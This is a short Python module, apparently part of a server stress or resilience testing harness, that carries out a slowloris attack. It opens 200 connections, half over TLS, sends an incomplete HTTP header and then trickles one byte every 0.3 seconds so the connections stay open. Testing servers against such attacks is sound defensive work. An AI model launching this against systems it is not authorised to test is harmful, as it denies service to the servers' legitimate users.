"""Headers byte by byte, on 100 connections with TLS and 100 without (slowloris)."""

import asyncio

from wire.link import link


async def attack(target):
    async def each(number):
        async with link(target, target.source(number), tls=number % 2 == 0) as it:
            if it:
                await it.send(b"GET /small HTTP/1.1\r\nx: ")
                while target.goes_on():
                    await it.send(b"y")
                    await asyncio.sleep(0.3)

    await target.once(200, each)
